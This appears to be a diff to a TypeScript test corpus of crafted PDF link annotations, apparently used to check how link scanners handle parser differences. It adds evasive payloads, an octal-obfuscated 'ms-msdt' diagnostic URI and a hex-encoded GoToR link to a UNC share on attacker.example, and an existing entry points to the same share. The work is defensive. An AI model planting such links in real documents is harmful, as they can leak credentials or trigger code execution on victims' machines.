@@ -704,6 +704,15 @@ const linkPdfs: CorpusItem[] = [
   linkItem('pdf-uri-name-share', () =>
     buildPdf(linkAnnotations('<< /S /URI /URI /#5C#5Cattacker.example#5Cshare#5Cx.pdf >>')),
   ),
+  // Round 14: strings as each reader's lexer reads them. pdf.js reads `\533` as ś (folded to s:
+  // ms-msdt), PDFium and MuPDF as its low byte `[`; MuPDF reads a stray `g` in a hex string as
+  // the digit 0 (` \\host\share`), pdf.js and PDFium skip it.
+  linkItem('pdf-uri-wide-octal-scheme', () =>
+    buildPdf(linkAnnotations('<< /S /URI /URI (m\\533-m\\533dt:/id PCWDiagnostic) >>')),
+  ),
+  linkItem('pdf-gotor-hex-stray-share', () =>
+    buildPdf(linkAnnotations('<< /S /GoToR /F <2g5C5C61747461636B65722E6578616D706C655C73686172655C782E706466> >>')),
+  ),
 ];
 
 /** A file specification by URL (`/FS /URL`), as PDF text. */
